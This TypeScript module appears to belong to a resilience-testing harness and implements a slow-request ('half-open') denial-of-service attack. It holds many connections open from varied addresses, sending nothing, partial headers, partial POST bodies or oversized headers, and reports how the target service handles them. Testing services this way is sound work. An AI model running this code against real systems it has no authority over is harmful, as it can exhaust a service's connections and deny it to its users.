import type { Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import { percentile } from "../running/report.ts";
import { addressOf, connectFrom } from "./ask.ts";
import { type Attack, type Field, type Figure, isOver, scaled, type Target } from "./attack.ts";

const PER_SECOND = 200;
/** Held at the same time, so that neither side runs out of descriptors. */
const MOST_OPEN = 5_000;
/** Every other connection comes from one of these addresses, the rest from new ones. */
const ADDRESSES = 100;
const FIRST_NEW_ADDRESS = 50_000;
const LARGE_BYTES = 60_000;

const BEGINNINGS: readonly ((target: Target) => string)[] = [
  () => "",
  () => "GET /e?s=x HTTP/1.1\r\nHost: x\r\nX-Half: ",
  ({ site }) =>
    `POST /s?s=${site} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{"sv":`,
  () => `GET / HTTP/1.1\r\nHost: x\r\nX-Large: ${"x".repeat(LARGE_BYTES)}`,
];

/** Clients that send nothing, half a header, half a body or most of a large header, and stay. */
export const halfOpen: Attack = async (field) => {
  const held = new Set<Socket>();
  const endedAfterS: number[] = [];
  let opened = 0;
  let refused = 0;
  const everyMs = 1_000 / Math.min(10, scaled(PER_SECOND, field));
  while (!isOver(field)) {
    for (let i = 0; i < scaled((PER_SECOND * everyMs) / 1_000, field); i++) {
      if (held.size >= scaled(MOST_OPEN, field)) break;
      const socket = begin(field, opened++);
      const began = performance.now();
      held.add(socket);
      let isAccepted = false;
      const ended = () => {
        if (!held.delete(socket)) return;
        if (isAccepted) endedAfterS.push((performance.now() - began) / 1_000);
        else refused++;
      };
      socket.once("connect", () => {
        isAccepted = true;
      });
      // The client never closes its side, so a connection that the service has closed stays half-open.
      socket.once("end", ended).once("error", ended).once("close", ended);
    }
    await pause(everyMs);
  }
  return figuresOf(opened, refused, endedAfterS, held.size);
};

function begin({ target }: Field, n: number): Socket {
  const from = addressOf(target.attackers, n % 2 ? n % ADDRESSES : FIRST_NEW_ADDRESS + n);
  const socket = connectFrom(from, target.origin, { allowHalfOpen: true });
  socket.resume();
  const beginning = BEGINNINGS[Math.floor(n / 2) % BEGINNINGS.length]?.(target);
  if (beginning) socket.write(beginning);
  return socket;
}

function figuresOf(
  opened: number,
  refused: number,
  endedAfterS: readonly number[],
  held: number,
): Figure[] {
  const after =
    endedAfterS.length === 0
      ? ""
      : `, after ${percentile(endedAfterS, 0.5).toFixed(0)} s, at most ${Math.max(...endedAfterS).toFixed(0)} s`;
  return [
    ["unfinished requests begun", opened],
    ["never accepted", refused],
    ["ended by the service meanwhile", `${endedAfterS.length}${after}`],
    ["still waiting at the end of the attack", held],
  ];
}
